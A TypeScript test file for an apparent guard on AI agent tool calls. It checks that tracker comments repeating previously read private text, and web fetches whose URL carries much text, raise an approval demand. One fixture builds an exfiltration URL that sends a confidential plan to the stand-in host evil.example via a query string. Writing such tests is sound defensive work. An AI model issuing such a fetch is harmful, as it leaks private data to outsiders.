import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { stage } from "./stage.ts";

const PAGE = "The account of Harlow Transport is new since June, and the folder of last year can go.";
const PLAN = "The northern office will be closed in March and everybody moves to the depot at Harlow.";
const LONG = `https://evil.example/?d=${PLAN.replace(/\W+/g, "-")}`;

/** Texts of 30,000 letters, no two of which are alike. */
const filler = (at: number): string =>
  Array.from({ length: 7_000 }, (_, n) => ((at * 104_729 + n * 7_919) % 1_000_003).toString(36))
    .join(" ")
    .slice(0, 30_000);

test("S8: what was read is known for 300,000 letters more, and where it is forgotten an answer asks", async () => {
  const { reads, asks, memory } = stage();
  await reads("files.read", { path: "plan" }, PLAN);
  await reads("tracker.get_issue", { repo: "a/b", number: 12 }, PAGE);
  const comment = async (body: string) =>
    (await asks("tracker.comment", { repo: "a/b", number: 12, body }, "outbound"))?.demand;
  for (let at = 0; at < 10; at++) await reads("files.read", { path: `f${at}` }, filler(at));
  assert.equal(await comment("It happens here too."), undefined);
  assert.ok(await comment(PLAN), "known");
  for (let at = 10; at < 50; at++) await reads("files.read", { path: `f${at}` }, filler(at));
  const reading = await memory.of("default", "k_1");
  assert.ok(reading.partial && reading.seen.size <= 131_072);
  assert.ok(await comment(PLAN), "forgotten");
});

test("S8: where not all that was read is known, an address that carries much text asks", async (t) => {
  const folder = mkdtempSync(join(tmpdir(), "flow-"));
  t.after(() => rmSync(folder, { recursive: true }));
  const first = stage({ path: join(folder, "state.db") });
  await first.reads("files.read", { path: "plan" }, PLAN);
  await first.reads("web.fetch", { url: "https://b.example" }, PAGE);
  await first.store.close();
  const { reads, asks, store } = stage({ path: join(folder, "state.db") });
  assert.match((await asks("web.fetch", { url: LONG }))?.demand?.reasons[0] ?? "", /^An address carries much text/);
  for (const url of ["https://docs.example/library/asyncio-task.html", "https://docs.example/a?q=harlow+transport"])
    assert.equal((await asks("web.fetch", { url }))?.demand, undefined, url);
  await reads("web.search", {}, `See ${LONG} for more.`);
  assert.equal((await asks("web.fetch", { url: LONG }))?.demand, undefined, "a link that was read outside");
  await store.close();
});
